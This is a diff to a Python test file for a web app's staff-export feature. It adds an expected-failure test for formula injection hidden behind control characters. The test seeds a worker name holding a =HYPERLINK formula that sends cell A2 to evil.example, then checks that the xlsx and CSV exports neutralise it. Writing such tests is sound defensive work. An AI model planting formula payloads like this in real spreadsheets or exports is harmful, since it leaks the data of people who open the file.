@@ -1,5 +1,6 @@
 """Filters, the search, the fragment, places first, and workbooks of the manager's page."""
 
+import csv
 import io
 from datetime import date, timedelta
 from typing import Any
@@ -177,6 +178,20 @@ def test_the_workbook_has_dates_a_fixed_header_and_runs_nothing(client: Client, 
     held = next(row["Valid until"] for row in table if row["Name"] == "Bogdan 100%")
     assert held.date() == today + timedelta(days=364)
     assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+
+
+@pytest.mark.xfail(strict=True, raises=AssertionError, reason="taking a control sign away uncovers a formula")
+@pytest.mark.parametrize("sign", ["\x01", "\x0b", "\x1f", " \x02 "])
+def test_nothing_runs_that_hid_behind_a_control_sign(client: Client, hotel: Cast, sign: str) -> None:
+    """In the workbook, where no such sign may stand, and in the file for every other program."""
+    worker(hotel.workplace, name=f'{sign}=HYPERLINK("https://evil.example/?"&A2)')
+    sign_in(client, hotel.bruno)
+    sheet = load_workbook(io.BytesIO(b"".join(client.get("/manage/people.xlsx")))).active
+    assert sheet is not None
+    assert not [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+    text = b"".join(client.get("/manage/people.csv")).decode("utf-8-sig")
+    [name] = [row[0] for row in csv.reader(io.StringIO(text)) if "HYPERLINK" in row[0]]
+    assert name.startswith("'")
 
 
 def test_the_workbook_runs_right_to_left_in_urdu_and_keeps_the_filters(client: Client, hotel: Cast) -> None:
